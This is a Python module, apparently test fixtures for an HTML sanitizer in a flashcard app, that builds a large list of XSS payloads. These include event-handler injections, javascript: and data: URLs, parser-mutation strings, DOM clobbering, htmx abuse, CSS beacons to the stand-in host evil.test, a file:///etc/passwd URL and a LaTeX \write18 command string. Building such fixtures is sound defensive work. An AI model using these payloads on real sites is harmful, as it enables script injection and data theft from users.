"""HTML that wants to do something: run a script, ask a server, take the page over.

Each payload calls `ran(…)` where it gets to run a script, and asks `http://evil.test` or an
address of the app where it gets to send a request. They are inert: nobody answers there.
"""

from __future__ import annotations

from itertools import product

_RUN = "ran(1)"
_EVIL = "http://evil.test"
_HANDLERS = (
    "onclick", "onload", "onerror", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
    "onpointerenter", "onbegin", "oncontentvisibilityautostatechange",
)  # fmt: skip
_CARRIERS = (
    "<b {on}='ran(1)' tabindex=0 autofocus>x</b>",
    "<img src=x {on}=ran(1)>",
    "<svg {on}=ran(1)><g></g></svg>",
    "<details open {on}=ran(1)><summary>s</summary></details>",
    "<input autofocus {on}=ran(1)>",
    "<audio src=x {on}=ran(1)></audio>",
    "<table background=x {on}=ran(1)><tr><td>x</table>",
)
_HTMX = (
    "hx-get", "hx-post", "hx-put", "hx-delete", "hx-on:click", "hx-on::load", "hx-vals",
    "hx-boost", "hx-ext", "hx-headers",
)  # fmt: skip
_SCRIPTS = (
    "<script>ran(1)</script>",
    "<ScRiPt>ran(1)</sCrIpT>",
    "<script\x0c>ran(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>ran(1)</script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<script>/*</script><script>*/ran(1)</script>",
    "<script nonce=x>ran(1)</script>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><script href=data:,ran(1) /></svg>",
    "<math><script>ran(1)</script></math>",
    "<template><script>ran(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(1)></iframe>",
    "<object data=javascript:ran(1)></object>",
    "<embed src=javascript:ran(1)>",
    "<link rel=import href=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test/><button autofocus>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:ran(1)>x</button>",
    "<isindex type=image src=1 onerror=ran(1)>",
    "<xmp><img src=x onerror=ran(1)></xmp>",
    "<plaintext><img src=x onerror=ran(1)>",
    "<textarea autofocus onfocus=ran(1)></textarea>",
    "<select autofocus onfocus=ran(1)><option>x</select>",
    "<video><source onerror=ran(1)></video>",
    "<video poster=http://evil.test/p.png></video>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<body onload=ran(1)>",
    "<html onmouseover=ran(1)>",
    "<frameset onload=ran(1)>",
    "<portal src=javascript:ran(1)>",
    "<slot onslotchange=ran(1)></slot>",
    "<custom-thing onclick=ran(1)>x</custom-thing>",
    "<dialog open onclose=ran(1)>x</dialog>",
)
_URLS = (
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", " javascript:ran(1)", "java\tscript:ran(1)",
    "java\nscript:ran(1)", "java&#x0a;script:ran(1)", "&#106;avascript:ran(1)",
    "javascript&colon;ran(1)", "\x01javascript:ran(1)", "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "vbscript:ran(1)",
    "blob:http://app.test/x", "filesystem:http://app.test/x", "//evil.test/x", "\\\\evil.test\\x",
    "http://evil.test/x.png", "https:evil.test", "/settings", "settings?x=1", "file:///etc/passwd",
)  # fmt: skip
_MUTATIONS = (
    "<svg></p><style><a id='</style><img src=1 onerror=ran(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=ran(1)&gt;'>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=ran(1) src>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>",
    "<svg><desc><table><style><img src=x onerror=ran(1)></style></table></desc></svg>",
    "<svg><title><style><img src=x onerror=ran(1)></style></title></svg>",
    "<noembed><img src='</noembed><img src=x onerror=ran(1)>'>",
    "<noframes><img src='</noframes><img src=x onerror=ran(1)>'>",
    "<style><img src='</style><img src=x onerror=ran(1)>'>",
    "<!--><img src=x onerror=ran(1)>-->",
    "<!-- --!><img src=x onerror=ran(1)> -->",
    "<![CDATA[<img src=x onerror=ran(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=ran(1)>]]>",
    "<?php <img src=x onerror=ran(1)> ?>",
    "<a title='</a><img src=x onerror=ran(1)>'>x</a>",
    "<img alt='`><img src=x onerror=ran(1)>'>",
    '<b title="`onmouseover=ran(1)">x</b>',
    "<p id='x' name='getElementById'>x</p>",
    "<img name=body><img name=cookie><form name=documentElement>",
    "<a id=htmx name=config href=x>x</a>",
    "<<img src=x onerror=ran(1)//<b>",
    "<img/src/onerror=ran(1)>",
    "<img src=x\x00 onerror=ran(1)>",
    "<im\x00g src=x onerror=ran(1)>",
    "<table><td><img src=x onerror=ran(1)></table><svg><a><rect></a></svg>",
    "<math href='javascript:ran(1)'>x</math>",
    "<math><mi xlink:href='javascript:ran(1)'>x</mi></math>",
    "<math><maction actiontype='statusline#http://evil.test' xlink:href='javascript:ran(1)'>x"
    "</maction></math>",
    "<svg><a xlink:href='javascript:ran(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:ran(1) /></svg>",
    "<svg><set attributeName=onmouseover to=ran(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(1)>#x'></use></svg>",
    "<svg><image href=http://evil.test/x.png></image></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran(1)</script>'></foreignObject></svg>",
    "<svg><feImage href=http://evil.test/x></feImage></svg>",
)
_STYLES = (
    "background:url(http://evil.test/x)", "background-image:image-set('http://evil.test/x' 1x)",
    "position:fixed;inset:0;z-index:9999", "list-style:url(http://evil.test/x)",
    "behavior:url(http://evil.test/x)", "-moz-binding:url(http://evil.test/x)",
    "width:expression(ran(1))", "content:url(http://evil.test/x)", "cursor:url(http://evil.test/x)",
    "animation-name:x", "@import 'http://evil.test/x'", "font-family:url(http://evil.test/x)",
    "filter:url(http://evil.test/x#y)", "mask:url(http://evil.test/x)",
    "border-image:url(http://evil.test/x)",
)  # fmt: skip
_FORMULAS = (
    r"\(\text{<img src=x onerror=ran(1)>}\)",
    r"\(\href{javascript:ran(1)}{x}\)",
    r"\(\unicode{<script>ran(1)</script>}\)",
    r"\[\class{x\" onclick=\"ran(1)}{y}\]",
    r"\(\style{background:url(http://evil.test/x)}{x}\)",
    r"[$]\text{</math><img src=x onerror=ran(1)>}[/$]",
    r"[latex]\input{/etc/passwd}\write18{touch x}[/latex]",
    r"<img alt='> \(\text{&quot; onerror=ran(1) x=&quot;}\)' src=x>",
    r"<a title='\(x\)' href='\(javascript:ran(1)\)'>x</a>",
    "<anki-mathjax><script>ran(1)</script></anki-mathjax>",
    "<anki-mathjax block='true'>\\text{<svg onload=ran(1)>}</anki-mathjax>",
    "\ue0000\ue001<img src=x onerror=ran(1)>\ue0001\ue001",
    "[sound:x.mp3'onerror=ran(1)]",
    '[sound:"><img src=x onerror=ran(1)>]',
    "[sound:http://evil.test/x.mp3]",
    "[[type:<img src=x onerror=ran(1)>]]",
    "<code class='language-html'><img src=x onerror=ran(1)></code>",
    "<code class='language-html'>&lt;img src=x onerror=ran(1)&gt;</code>",
    "{{c1::<img src=x onerror=ran(1)>::<script>ran(1)</script>}}",
    "{{c1::<b}} onclick=ran(1) {{c2::>x</b>}}",
    "{{c1::\x01<img src=x onerror=ran(1)>\x02}}",
)


def payloads() -> list[str]:
    """Return them all, each once."""
    made = [carrier.format(on=on) for carrier, on in product(_CARRIERS, _HANDLERS)]
    made += [
        f'<b {prefix}{name}="{_EVIL}/x" {prefix}hx-trigger="load, click">x</b>'
        for prefix, name in product(("", "data-"), _HTMX)
    ]
    made += [f'<b data-hx-on-{name}="{_RUN}">x</b>' for name in ("click", "-after-init", "load")]
    made += [f'<a href="{url}">x</a>' for url in _URLS]
    made += [f'<img src="{url}" srcset="{url} 1x">' for url in _URLS]
    made += [f'<b style="{style}">x</b>' for style in _STYLES]
    made += [f"<style>b {{ {style} }}</style><b>x</b>" for style in _STYLES]
    return list(dict.fromkeys((*made, *_SCRIPTS, *_MUTATIONS, *_FORMULAS)))
